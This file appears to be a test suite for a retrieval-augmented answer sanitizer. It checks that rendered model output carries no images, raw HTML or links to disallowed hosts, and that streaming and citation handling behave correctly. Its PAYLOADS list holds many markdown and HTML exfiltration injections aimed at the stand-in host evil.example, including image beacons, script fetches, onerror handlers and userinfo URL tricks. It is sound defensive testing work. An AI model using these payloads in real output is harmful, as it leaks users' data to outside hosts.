"""The output filter (rag/sanitize.py): what its output renders as, streaming, cost.

The main check renders the filter's output with markdown-it-py (CommonMark, raw HTML
on, GFM tables, linkify) twice, once with linkify-it's own rules and once with the
GFM-style linkifier, and asserts that no image, raw HTML or link to a host outside the
allowlist is in what a renderer would show.
"""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from linkify_it import LinkifyIt
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag.query.sanitize import (
    GfmLinkify,
    Sanitizer,
    citation_numbers,
    link_allowed,
    plain_markdown,
    sanitize,
)

HOSTS = {"docs.example.org"}
VALID = {1, 2, 3}

PAYLOADS: dict[str, str] = {
    "reference image, protocol-relative definition": (
        "Fact [1]. ![s][i]\n\n[i]: //evil.example/p.png?d=SECRET"
    ),
    "reference image, definition first": (
        "[i]: //evil.example/p.png?d=SECRET\n\nFact [1] ![s][i] and [click][i]."
    ),
    "reference image inside a list item": (
        "- Fact [1] ![s][i]\n\n  [i]: //evil.example/p.png?d=SECRET"
    ),
    "inline image with brackets in alt": "Fact [1]. ![a [b] c](//evil.example/p.png?d=SECRET)",
    "data: image and link": (
        "Fact [1]. ![x](data:image/png;base64,SECRET) [y](data:text/html,SECRET)"
    ),
    "html a href": 'Fact [1]. <a href="//evil.example/login?d=SECRET">log in</a> here.',
    "html image tag": 'Fact [1]. <image src="//evil.example/p.png?d=SECRET">',
    "html img onerror": "Fact [1]. <img src=x onerror=\"fetch('//evil.example/?d=SECRET')\">",
    "inline script": "Fact [1]. <script>fetch('//evil.example/?d=SECRET')</script> done.",
    "script block": "<script>\nfetch('//evil.example/?d=SECRET')\n</script>\n\nFact [1].",
    "iframe": 'Fact [1].\n\n<iframe src="https://evil.example/?d=SECRET"></iframe>',
    "svg with link": (
        'Fact [1]. <svg onload="alert(1)"><a href="//evil.example/?d=SECRET"><text>x</text></a>'
        "</svg>"
    ),
    "style": "Fact [1]. <style>p{background:url(//evil.example/p.png?d=SECRET)}</style>",
    "event handler": (
        'Fact [1]. <p onclick="alert(1)" style="background:url(//evil.example/?d=SECRET)">hi</p>'
    ),
    "html block with link": '<div>\n<a href="https://evil.example/?d=SECRET">Fact</a> [1]\n</div>',
    "html comment": "Fact [1]. <!-- <img src=//evil.example/p.png?d=SECRET> -->",
    "GFM www autolink": "Fact [1]. See www.evil.example/x?d=SECRET for more.",
    "bare https URL": "Fact [1]. https://evil.example/x?d=SECRET",
    "angle autolink": "Fact [1]. <https://evil.example/?d=SECRET>",
    "e-mail autolinks": "Fact [1]. Write to SECRET@evil.example or <mailto:SECRET@evil.example>.",
    "protocol-relative in text": "Fact [1]. //evil.example/p?d=SECRET",
    "protocol-relative after www.": "Fact [1]. www.//evil.example/p?d=SECRET",
    "link with title": 'Fact [1]. [details](https://evil.example/?d=SECRET "Title")',
    "nested brackets": "Fact [1]. [a [b [c]] d](https://evil.example/?d=SECRET)",
    "URL as the text of an allowed link": (
        "Fact [1]. [www.evil.example/?d=SECRET](https://docs.example.org/a)"
    ),
    "entities decoding to < and javascript:": (
        "Fact [1]. &lt;img src=//evil.example/p.png?d=SECRET&gt; &#60;script&#62; "
        "[x](&#106;avascript:alert(1)) [y](javascript&#58;alert(1))"
    ),
    "backslash escapes": (
        "Fact [1]. \\[x\\](https://evil.example/?d=SECRET) \\![y\\](//evil.example/p.png) \\<b\\>"
    ),
    "userinfo trick": (
        "Fact [1]. [docs](https://docs.example.org@evil.example/?d=SECRET) "
        "https://docs.example.org@evil.example/?d=SECRET"
    ),
    "backslash in host": "Fact [1]. [docs](https://docs.example.org\\@evil.example/?d=SECRET)",
    "allowed host as a subdomain": "Fact [1]. https://docs.example.org.evil.example/?d=SECRET",
    "code span with HTML": "Fact [1]. `<img src=//evil.example/p.png?d=SECRET>` and ``a`b``",
    "fence with HTML": "Fact [1].\n\n```html\n<img src=//evil.example/p.png?d=SECRET>\n```",
    "unclosed fence": (
        "Fact [1].\n\n```\n<img src=//evil.example/p.png?d=SECRET>\n\n![x](//evil.example/y.png)"
    ),
    "table": (
        "Fact [1].\n\n| a | b |\n|---|---|\n| ![x](//evil.example/p.png?d=SECRET) | "
        "[y](https://evil.example/?d=SECRET) |"
    ),
    "block quote": "> Fact [1] ![x](//evil.example/p.png)\n> [y]: //evil.example\n\n> ![z][y]",
    "marker turned into a reference link": "Fact [1].\n\n[1]: https://evil.example/?d=SECRET",
    "marker followed by a parenthesis": "Fact \\[1\\](https://evil.example/?d=SECRET) [1]\\(x)",
    "model-written Sources block": (
        'Fact [1].\n\nSources:\n[1] notes.md, line 3: "The H800 chip" '
        "<https://evil.example/v1/sources/notes.md?d=SECRET>"
    ),
    "setext Sources heading": 'Fact [1].\n\nSources\n-------\n[2] evil.md, line 2: "SECRET"',
    "Sources list": "Fact [1].\n\n**Sources**\n\n- [1] notes.md, line 3\n- [2] SECRET.md, line 1",
    "citation-like forms": "Fact [1,2] [1, 2] 【2】 [\u200b2] [２] [ 2 ] ^[2] [^2] [9] [1-3].",
    "link split across lines": "Fact [1]. [click\nhere](https://evil.example/?d=SECRET\n)",
    "long unclosed parenthesis": "Fact [1]. (see " + "the H800 chip and more " * 200,
}


def renderers() -> list[MarkdownIt]:
    """markdown-it-py as a chat front end would use it: with linkify-it's rules, and
    with the GFM ones (``www.`` anything, any top-level domain, e-mail addresses)."""
    out = []
    for linkifier in (LinkifyIt(), GfmLinkify()):
        md = MarkdownIt("commonmark", {"html": True, "linkify": True})
        md.enable(["linkify", "table"])
        md.linkify = linkifier
        out.append(md)
    return out


RENDERERS = renderers()


def walk(tokens: list[Token]) -> list[Token]:
    out: list[Token] = []
    for tok in tokens:
        out.append(tok)
        out.extend(walk(tok.children or []))
    return out


def disallowed(markdown: str, hosts: set[str] = HOSTS) -> list[str]:
    """What a renderer would make of ``markdown`` beyond text and allowed links."""
    found = []
    for md in RENDERERS:
        for tok in walk(md.parse(markdown)):
            if tok.type in ("image", "html_inline", "html_block"):
                found.append(f"{tok.type}: {tok.content!r}")
            elif tok.type == "link_open" and not link_allowed(str(tok.attrs["href"]), hosts):
                found.append(f"link: {tok.attrs['href']!r}")
    return found


def visible(markdown: str) -> str:
    """The text a renderer shows, one line per rendered line."""
    lines: list[str] = []
    for tok in RENDERERS[0].parse(markdown):
        if tok.type == "inline":
            text = "".join(
                "\n" if c.type in ("softbreak", "hardbreak") else c.content
                for c in tok.children or []
                if c.type in ("text", "softbreak", "hardbreak", "code_inline")
            )
            lines.extend(text.split("\n"))
    return "\n".join(line.strip() for line in lines if line.strip())


def streamed(text: str, cuts: list[int], **kwargs: object) -> tuple[str, list[str]]:
    sanitizer = Sanitizer(VALID, HOSTS, **kwargs)  # type: ignore[arg-type]
    pieces, start = [], 0
    for cut in [*sorted(cuts), len(text)]:
        pieces.append(sanitizer.feed(text[start:cut]))
        start = cut
    pieces.append(sanitizer.finish())
    return "".join(pieces), sanitizer.warnings


SHOWN_AS_TEXT = {
    "entities decoding to < and javascript:",
    "code span with HTML",
    "fence with HTML",
    "unclosed fence",
    "long unclosed parenthesis",
}
"""Payloads whose HTML or URL a renderer shows as text (code, entities): it may stay."""


@pytest.mark.parametrize("name", PAYLOADS)
def test_filtered_payload_renders_no_image_html_or_foreign_link(name: str) -> None:
    out, warnings = sanitize(PAYLOADS[name], VALID, HOSTS)
    assert disallowed(out) == []
    assert "[1]" in out
    if name not in SHOWN_AS_TEXT:
        assert "SECRET" not in out  # the URL, tag or block that carried it is gone
        assert warnings  # and it was said


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_any_split_of_the_stream_gives_the_whole_text_output(payload: str) -> None:
    whole = sanitize(payload, VALID, HOSTS)
    rng = random.Random(payload)
    for _ in range(30):
        cuts = [rng.randrange(len(payload) + 1) for _ in range(rng.randrange(1, 40))]
        assert streamed(payload, cuts) == whole
    assert streamed(payload, list(range(len(payload)))) == whole  # a character at a time


FRAGMENTS = [
    *PAYLOADS.values(),
    "[1]", "[2]", "[9]", "[", "]", "(", ")", "<", ">", "!", "*", "_", "`", "```", "~~~",
    "\n", "\n\n", "\n\n\n", "  ", "    ", "- ", "1. ", "> ", "# ", "|", "---", "===", "\\",
    "&", "&lt;", "&#60;", "&#x3c;", ":", "//", "https://", "http://", "www.", "evil.example",
    "docs.example.org", "@", "/p.png", "?d=S", '"t"', "<a href=", "<img src=", "<script>",
    "</script>", "<div>", "</div>", "<!--", "-->", "[i]: ", "![", "](", "javascript:",
    "mailto:", "Sources:", "【", "】", "２", "\u200b", "^", "notes.md", "word ",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    parts=st.lists(st.sampled_from(FRAGMENTS), max_size=25),
    cuts=st.lists(st.integers(min_value=0, max_value=2000), max_size=12),
)
def test_any_text_filtered_renders_nothing_disallowed_and_streams_equal(
    parts: list[str], cuts: list[int]
) -> None:
    text = "".join(parts)
    whole = sanitize(text, VALID, HOSTS)
    assert disallowed(whole[0]) == []
    assert streamed(text, [c for c in cuts if c <= len(text)]) == whole


def test_allowed_links_are_kept_and_others_lose_their_url() -> None:
    text = (
        "Fact [1]. [docs](https://docs.example.org/a) and https://docs.example.org/b, "
        "[rel](//docs.example.org/c) [up](HTTPS://DOCS.EXAMPLE.ORG/d) "
        "[other](https://evil.example/e) [rel2](/relative) [ftp](ftp://docs.example.org/f)."
    )
    out, warnings = sanitize(text, VALID, HOSTS)
    assert "[docs](<https://docs.example.org/a>)" in out
    assert "<https://docs.example.org/b>" in out
    assert "[rel](<//docs.example.org/c>)" in out
    assert "[up](<HTTPS://DOCS.EXAMPLE.ORG/d>)" in out
    assert "other rel2 ftp" in out and "evil.example" not in out and "relative" not in out
    assert warnings == ["llm_link_removed"]


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://docs.example.org/x", True),
        ("http://docs.example.org:8443/x", True),
        ("//docs.example.org/x", True),
        ("https://docs.example.org@evil.example/", False),
        ("https://user:pw@docs.example.org/", False),
        ("https://docs.example.org.evil.example/", False),
        ("https://docs.example.org\\@evil.example/", False),
        ("https://docs.example.org%2f@evil.example/", False),
        ("javascript://docs.example.org/%0aalert(1)", False),
        ("ftp://docs.example.org/x", False),
        ("docs.example.org/x", False),
        ("/v1/sources/x", False),
        ("https://docs.example.org:99999/", False),
        ("https://[::1]/", False),
    ],
)
def test_link_allowed_only_for_http_to_an_allowed_host(url: str, allowed: bool) -> None:
    assert link_allowed(url, HOSTS) is allowed


@pytest.mark.parametrize(
    ("text", "out", "warnings"),
    [
        ("A [1,2] b.", "A [1][2] b.", []),
        ("A [1, 2] b.", "A [1][2] b.", []),
        ("A 【2】 b.", "A [2] b.", []),
        ("A [\u200b2\u200d] b.", "A [2] b.", []),
        ("A [２] b.", "A [2] b.", []),
        ("A ［３］ b.", "A [3] b.", []),
        ("A [ 2 ] b.", "A [2] b.", []),
        ("A ^[2] b.", "A [2] b.", []),
        ("A [^2] b.", "A [2] b.", []),
        ("A [1-3] b.", "A [1][2][3] b.", []),
        ("A [1; 2、3] b.", "A [1][2][3] b.", []),
        ("A [1, 9] b.", "A [1] b.", ["invalid_citation: [9]"]),
        ("A [1] [9] b.", "A [1]  b.", ["invalid_citation: [9]"]),
        ("A [1] in [2024] b.", "A [1] in \\[2024\\] b.", []),
        ("A [1] [1, see above] b.", "A [1] \\[1, see above\\] b.", []),
        ("A [1] [1-99] b.", "A [1] \\[1-99\\] b.", []),
    ],
)
def test_citation_like_forms_become_checked_markers(
    text: str, out: str, warnings: list[str]
) -> None:
    assert sanitize(text, VALID, HOSTS) == (out, warnings)


def test_citation_numbers() -> None:
    assert citation_numbers("1, 2") == [1, 2]
    assert citation_numbers("\u200b１") == [1]
    assert citation_numbers("see 1") is None and citation_numbers("1000") is None


@pytest.mark.parametrize(
    "block",
    [
        'Sources:\n[1] notes.md, line 3: "quote"\n[2] b.md, line 1',
        "## Sources\n\n- [1] notes.md, line 3\n- [2] b.md, line 1",
        "**Sources:** [1] notes.md, line 3",
        "References\n\n1. [1] notes.md\n2. [2] b.md",
        "Sumber:\n[1] notes.md, baris 3",
        "Nguồn:\n[1] notes.md, dòng 3",
        "المصادر:\n[1] notes.md",
        "来源：\n[1] notes.md",
        "SOURCES\n\n[1] notes.md\n\n[2] b.md",
    ],
)
def test_a_model_written_sources_block_is_removed(block: str) -> None:
    out, warnings = sanitize(f"The H800 chip [1].\n\n{block}\n\nAfter it.", VALID, HOSTS)
    assert out == "The H800 chip [1].\n\nAfter it."
    assert warnings == ["llm_sources_removed"]


def test_a_sources_list_at_the_end_of_a_paragraph_is_removed() -> None:
    text = "The H800 chip [1].\nSources:\n[1] notes.md, line 3\n[2] b.md\n\nAfter it."
    assert sanitize(text, VALID, HOSTS) == (
        "The H800 chip [1].\n\nAfter it.",
        ["llm_sources_removed"],
    )
    kept = "The H800 chip [1].\nSources: two reports [2].\nAnd more text."
    assert sanitize(kept, VALID, HOSTS) == (kept, [])


def test_text_about_sources_is_kept() -> None:
    text = "The sources agree [1].\n\n[2] says the chip was the H800.\n\nSource code [3]."
    out, warnings = sanitize(text, VALID, HOSTS)
    assert out == text and warnings == []


def test_structure_is_kept_as_escaped_text() -> None:
    text = (
        "# Title [1]\n\nSome *em* and **strong** text, a_b and 2 * 3.\n\n- one\n- two\n"
        "  - nested\n\n3. three\n4. four\n\n```\ncode <b>\n```\n\n---\n\n1\\. not a list"
    )
    out, _ = sanitize(text, VALID, HOSTS)
    assert out == (
        "Title [1]\n\nSome em and strong text, a_b and 2 \\* 3.\n\n- one\n- two\n  - nested"
        "\n\n3. three\n4. four\n\ncode \\<b\\>\n\n1\\. not a list"
    )


def test_nothing_is_released_before_the_first_valid_marker() -> None:
    s = Sanitizer(VALID, HOSTS)
    assert s.feed("No citation yet [9].\n\n") == ""
    assert s.feed("Still none.\n\nNow one [2]") == ""  # the paragraph is still open
    assert s.feed(".\n\nNext") == "No citation yet .\n\nStill none.\n\nNow one [2]."
    assert s.finish() == "\n\nNext"
    assert s.cited and s.warnings == ["invalid_citation: [9]"]


def test_an_answer_past_the_limit_is_cut_with_a_warning() -> None:
    s = Sanitizer(VALID, HOSTS, max_chars=40)
    shown = s.feed("The H800 chip [1].\n\n") + s.feed("More text " * 10)
    assert s.truncated and s.feed("even more\n\n") == ""
    shown += s.finish()
    assert shown == "The H800 chip [1].\n\nMore text More text"
    assert s.warnings == ["llm_answer_truncated"]
    with pytest.raises(ValueError, match="max_chars must be > 0, got 0"):
        Sanitizer(VALID, HOSTS, max_chars=0)


ADVERSARIAL = {
    "early ( in one paragraph": lambda n: "Fact [1]. (see " + "x " * (n // 2),
    "early [ with paragraphs": lambda n: "Fact [1]. [see " + "word words\n\n" * (n // 12),
    "early < with paragraphs": lambda n: "Fact [1]. <see " + "word words\n\n" * (n // 12),
    "early `` with paragraphs": lambda n: "Fact [1]. `` see " + "word words\n\n" * (n // 12),
    "unclosed fence": lambda n: "Fact [1].\n\n```\n" + "code line\n\n" * (n // 11),
    "unclosed script": lambda n: "Fact [1].\n\n<script>\n" + "code line\n\n" * (n // 11),
    "list with blank lines": lambda n: "Fact [1].\n\n" + "- item\n\n" * (n // 8),
}


@pytest.mark.parametrize("make", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_reparsing_is_linear_in_the_answer_length(make: object) -> None:
    """Characters given to the parser, fed in deltas of 5: at most 4 per character of
    answer at every size (re-parsing everything held at each delta, as a filter that
    waits for constructs to close would, costs ~n²/10: 25 million at 16,000)."""
    for n in (4000, 8000, 16000):
        text = make(n)  # type: ignore[operator]
        s = Sanitizer(VALID, HOSTS)
        for i in range(0, len(text), 5):
            s.feed(text[i : i + 5])
        s.finish()
        assert len(text) <= s.parsed_chars <= 4 * len(text)


PLAIN = [
    "004_1dc07bb43c1f175e.txt",
    "notes.md and H800.ai",
    "<b>bold</b> & <script>alert(1)</script> <img src=x onerror=alert(1)>",
    "[link](https://evil.example/?d=1) ![img](//evil.example/p.png) [ref][1] [1]: /x",
    "www.evil.example/x?d=1, https://evil.example and a@evil.example <https://e.example>",
    "# heading\n- item\n+ item\n1. one\n2) two\n> quote\n```\ncode\n```\n~~~\n    indented",
    "*em* _em_ **strong** ~~s~~ `code` \\ backslash a_b _c_",
    "&amp; &#60; &lt; AT&T &",
    "| a | b |\n|---|---|\n| c | d |",
    "Sources:\n[1] x\nTitle\n===\nText\n---",
    "\"quotes\" and 'apostrophes' … « » 【2】 [２]",
]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_markdown_renders_as_exactly_the_text(text: str) -> None:
    out = plain_markdown(text)
    assert disallowed(out, set()) == []
    assert visible(out) == "\n".join(line.strip() for line in text.split("\n") if line.strip())


CHARACTERS = [*"[]()<>!*_`#-+=|~&;:/.@\\\"' \n\0ax1é", *FRAGMENTS]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(CHARACTERS)).map("".join))
def test_plain_markdown_of_any_text_renders_as_that_text(text: str) -> None:
    out = plain_markdown(text)
    assert disallowed(out, set()) == []
    text = text.replace("\0", "\ufffd")  # as every CommonMark renderer shows it
    assert visible(out) == "\n".join(line.strip() for line in text.split("\n") if line.strip())


def test_plain_markdown_keeps_only_the_given_markers() -> None:
    assert plain_markdown("Quote [1] and [2](x).", markers=[2]) == "Quote \\[1\\] and [2]\\(x)."


def test_sanitizer_holds_open_constructs_and_releases_clean_text() -> None:
    s = Sanitizer({1, 2}, set())
    text = "Fact one [1]. A [link](http://evil.example/x y) and ![i](http://e/i.png) end [2]."
    out = "".join(s.feed(text[i : i + 4]) for i in range(0, len(text), 4)) + s.finish()
    assert out == "Fact one [1]. A \\[link\\]( y) and  end [2]."  # a space: not a link
    held = Sanitizer({1}, set())
    assert held.feed("Nothing cited yet.\n\n") == ""  # nothing before the first valid marker
    assert held.feed("Now [1].\n\n") == "Nothing cited yet.\n\nNow [1]."
